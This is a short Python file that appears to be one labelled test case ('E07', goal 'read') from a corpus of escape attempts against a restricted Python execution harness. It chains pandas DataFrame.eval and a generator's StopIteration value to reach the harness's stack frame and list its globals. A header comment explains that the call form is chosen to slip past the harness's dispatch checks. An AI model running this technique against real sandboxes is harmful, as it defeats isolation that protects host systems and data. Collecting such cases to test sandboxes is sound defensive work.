# class: exception_side_channel
# technique: StopIteration.value (E07): a generator (allowed since v2) returns the harness frame it found through DataFrame.eval; next() raises StopIteration carrying it; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})


def finder():
    yield None
    return [frame.agg][0]("eval", 0, "@g.gi_frame.f_back.f_back", local_dict={"g": gen})


gen = finder()
next(gen)
try:
    next(gen)
except StopIteration as stop:
    outer = stop.value
names = sorted([frame.agg][0]("eval", 0, "@f.f_globals", local_dict={"f": outer}))
df = pd.DataFrame({"name": names})
